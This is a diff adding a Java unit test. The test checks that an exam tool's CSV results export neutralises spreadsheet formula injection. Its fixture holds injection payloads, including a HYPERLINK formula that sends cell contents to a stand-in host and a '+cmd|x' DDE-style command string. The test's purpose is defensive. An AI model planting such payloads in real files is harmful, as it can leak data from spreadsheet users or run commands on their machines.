@@ -127,6 +127,27 @@ class ScriptedExamCliTest {
     }
 
     @Test
+    void resultsAsCsvNeverHandASpreadsheetAFormula() throws IOException {
+        Files.writeString(dir.resolve("formulas.csv"), """
+                id,name,employeeNumber
+                w-1,"=HYPERLINK(""http://example.invalid/?""&A1,""click"")",+cmd|x
+                @w-2,@SUM(1+1),-2
+                """);
+        assertThat(cli("import-package", dir.resolve("forklift.csv").toString(), "--id", "forklift-v1").exitCode())
+                .isZero();
+        assertThat(cli("schedule", "--id", "formulas", "--title", "Formulas", "--category", "Safety", "--opens",
+                "now-1m", "--duration", "30", "--package", "forklift-v1", "--participants",
+                dir.resolve("formulas.csv").toString()).exitCode()).isZero();
+
+        CliRunner.Result csv = cli("results", "formulas");
+        assertThat(csv.exitCode()).as(csv.err()).isZero();
+        List<String> rows = csv.out().lines().skip(1).toList();
+        assertThat(rows).hasSize(2);
+        assertThat(String.join("\n", rows)).contains("\"'=HYPERLINK(", "'+cmd|x", "'@w-2", "'@SUM(1+1)", "'-2")
+                .doesNotContain(",=", ",+", ",@", ",-");
+    }
+
+    @Test
     void everyDocumentedExitCodeComesFromARealSituation() throws IOException, SQLException {
         cli("import-package", dir.resolve("forklift.csv").toString(), "--id", "p1");
         JsonNode scheduled = json(cli("schedule", "--title", "T", "--category", "C", "--opens", "now", "--duration",
